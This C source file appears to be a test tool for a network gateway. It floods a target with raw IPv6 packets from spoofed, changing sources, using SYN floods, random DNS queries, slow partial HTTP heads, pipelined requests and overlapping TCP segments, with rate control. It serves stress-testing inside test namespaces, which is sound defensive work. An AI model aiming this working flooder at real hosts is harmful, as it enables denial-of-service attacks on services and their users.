/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * An attacker in the office, who would fill the gateway's tables: raw IPv6 packets from ports and
 * addresses that change, to a server that answers nothing. Only in namespaces of a test.
 *
 * flood KIND PACKETS-A-SECOND SECONDS SOURCE-PREFIX TARGET [NAME]
 *
 *   syn        a connection's beginning, and no more
 *   names      DNS questions for names that were never asked for before
 *   longest    likewise, each a label in front of NAME
 *   heads      a connection and the first part of a request's head
 *   pipelines  a connection, then segments full of requests
 *   overlaps   a connection, then segments behind a hole that overlap each other
 *
 * SOURCE-PREFIX is the first 64 bits, as "2001:db8:1::". Prints how many packets were sent.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

#include "packets.h"

#define BATCH 32
#define PACKET_MAX 1500
#define HEADER 40
#define NAME_SIZE 254 /* RFC 1035 section 2.3.4, as text */
/* Packets of one connection before the next begins. */
#define CONNECTION 32

struct flood {
	int socket;
	struct sockaddr_in6 to;
	struct in6_addr source;
	const char *name; /* in front of which names stand; NULL for a short one */
	uint64_t random;
	uint64_t sent;
	uint8_t octets[BATCH][PACKET_MAX];
};

static uint32_t draw(struct flood *flood)
{
	flood->random = flood->random * 6364136223846793005U + 1442695040888963407U;
	return (uint32_t)(flood->random >> 33);
}

static uint32_t add_up(uint32_t sum, const uint8_t *octets, size_t len)
{
	for (size_t i = 0; i + 1 < len; i += 2) {
		sum += (uint32_t)octets[i] << 8 | octets[i + 1];
	}
	return len % 2 == 1 ? sum + ((uint32_t)octets[len - 1] << 8) : sum;
}

/* Puts the addresses and the checksum (RFC 8200 section 8.1) into a packet. */
static size_t finish(struct flood *flood, uint8_t *packet, size_t len, uint32_t connection)
{
	const size_t l4_len = len - HEADER;
	const size_t at = HEADER + (packet[6] == IPPROTO_TCP ? 16 : 6);
	memcpy(packet + 8, &flood->source, 16);
	put16(packet + 22, 0x1000 + connection % 0x4000);
	memcpy(packet + 24, &flood->to.sin6_addr, 16);
	put16(packet + at, 0);
	uint32_t sum = add_up((uint32_t)l4_len + packet[6], packet + 8, 32);
	sum = add_up(sum, packet + HEADER, l4_len);
	while (sum >> 16 != 0) {
		sum = (sum & 0xffff) + (sum >> 16);
	}
	put16(packet + at, ~sum & 0xffff);
	return len;
}

static size_t fill_requests(uint8_t *out, size_t room, uint64_t number)
{
	size_t len = 0;
	for (unsigned i = 0;; i++) {
		char text[80];
		const int one =
		    snprintf(text, sizeof text,
			     "GET / HTTP/1.1\r\nHost: p%" PRIu64 "-%u.example\r\n\r\n", number, i);
		if (len + (size_t)one > room) {
			return len;
		}
		memcpy(out + len, text, (size_t)one);
		len += (size_t)one;
	}
}

/* The n-th packet of a kind. \returns its length. */
static size_t make(struct flood *flood, const char *kind, uint64_t number, uint8_t *packet)
{
	static uint32_t seq; /* of the connection that is under way */
	uint8_t payload[1300];
	size_t len = 0;
	const uint32_t connection = (uint32_t)(number / CONNECTION);
	const uint32_t step = (uint32_t)(number % CONNECTION);
	struct talk talk = {true, 0, 0, (uint16_t)(1024 + connection % 60000), 80};
	if (strcmp(kind, "names") == 0 || strcmp(kind, "longest") == 0) {
		char name[NAME_SIZE];
		if (flood->name != NULL) {
			snprintf(name, sizeof name, "%08x.%s", draw(flood), flood->name);
		} else {
			snprintf(name, sizeof name, "%08x%08x.example", draw(flood), draw(flood));
		}
		talk.client_port = (uint16_t)(1024 + number % 60000);
		talk.server_port = 53;
		len = put_query(payload, (uint16_t)number, name);
		return finish(flood, packet, put_udp(packet, &talk, true, payload, len),
			      (uint32_t)(number / 60000));
	}
	if (strcmp(kind, "syn") == 0 || (strcmp(kind, "heads") == 0 && number % 2 == 0)) {
		const uint64_t which = strcmp(kind, "syn") == 0 ? number : number / 2;
		talk.client_port = (uint16_t)(1024 + which % 60000);
		return finish(flood, packet, put_tcp(packet, &talk, true, TCP_SYN, 100, 0, NULL, 0),
			      (uint32_t)(which / 60000));
	}
	if (strcmp(kind, "heads") == 0) {
		static const char head[] = "GET / HTTP/1.1\r\nX-Slow: aaaaaaaaaaaaaaaaaaaaaaaa";
		talk.client_port = (uint16_t)(1024 + number / 2 % 60000);
		return finish(
		    flood, packet,
		    put_tcp(packet, &talk, true, TCP_PSH | TCP_ACK, 101, 1, head, sizeof head - 1),
		    (uint32_t)(number / 2 / 60000));
	}
	if (step == 0) {
		seq = draw(flood);
		return finish(flood, packet,
			      put_tcp(packet, &talk, true, TCP_SYN, seq++, 0, NULL, 0), connection);
	}
	if (strcmp(kind, "pipelines") == 0) {
		len = fill_requests(payload, sizeof payload, number);
		const size_t packet_len =
		    put_tcp(packet, &talk, true, TCP_PSH | TCP_ACK, seq, 1, payload, len);
		seq += (uint32_t)len;
		return finish(flood, packet, packet_len, connection);
	}
	len = 1 + draw(flood) % 400;
	memset(payload, 'a' + (int)(step % 26), len);
	return finish(flood, packet,
		      put_tcp(packet, &talk, true, TCP_PSH | TCP_ACK, seq + 50 + draw(flood) % 8000,
			      1, payload, len),
		      connection);
}

static void send_batch(struct flood *flood, const char *kind, unsigned count)
{
	struct mmsghdr messages[BATCH];
	struct iovec parts[BATCH];
	memset(messages, 0, sizeof messages);
	for (unsigned i = 0; i < count; i++) {
		parts[i].iov_base = flood->octets[i];
		parts[i].iov_len = make(flood, kind, flood->sent + i, flood->octets[i]);
		messages[i].msg_hdr.msg_name = &flood->to;
		messages[i].msg_hdr.msg_namelen = sizeof flood->to;
		messages[i].msg_hdr.msg_iov = &parts[i];
		messages[i].msg_hdr.msg_iovlen = 1;
	}
	if (sendmmsg(flood->socket, messages, count, 0) < 0 && errno != ENOBUFS &&
	    errno != EAGAIN) {
		perror("flood: cannot send");
		exit(2);
	}
	flood->sent += count;
}

static double now(void)
{
	struct timespec time;
	clock_gettime(CLOCK_MONOTONIC, &time);
	return (double)time.tv_sec + (double)time.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	static struct flood flood = {.random = 1};
	static const char *const kinds[] = {"syn",   "names",     "longest",
					    "heads", "pipelines", "overlaps"};
	bool known = false;
	for (size_t i = 0; argc >= 6 && i < sizeof kinds / sizeof *kinds; i++) {
		known = known || strcmp(argv[1], kinds[i]) == 0;
	}
	if (argc == 7 && strlen(argv[6]) + 9 < NAME_SIZE) {
		flood.name = argv[6];
	}
	flood.to.sin6_family = AF_INET6;
	if (!known || (strcmp(argv[1], "longest") == 0) != (flood.name != NULL) ||
	    inet_pton(AF_INET6, argv[4], &flood.source) != 1 ||
	    inet_pton(AF_INET6, argv[5], &flood.to.sin6_addr) != 1) {
		fputs("usage: flood syn|names|longest|heads|pipelines|overlaps PACKETS-A-SECOND "
		      "SECONDS SOURCE-PREFIX TARGET [NAME]\n",
		      stderr);
		return 2;
	}
	flood.socket = socket(AF_INET6, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	if (flood.socket < 0) {
		perror("flood: cannot open a raw socket");
		return 2;
	}
	const double rate = strtod(argv[2], NULL);
	const double begun = now();
	const double seconds = strtod(argv[3], NULL);
	for (double passed = 0; passed < seconds; passed = now() - begun) {
		if ((double)flood.sent + BATCH <= passed * rate) {
			send_batch(&flood, argv[1], BATCH);
		} else {
			nanosleep(&(struct timespec){.tv_nsec = 200000}, NULL);
		}
	}
	printf("%" PRIu64 "\n", flood.sent);
	return 0;
}
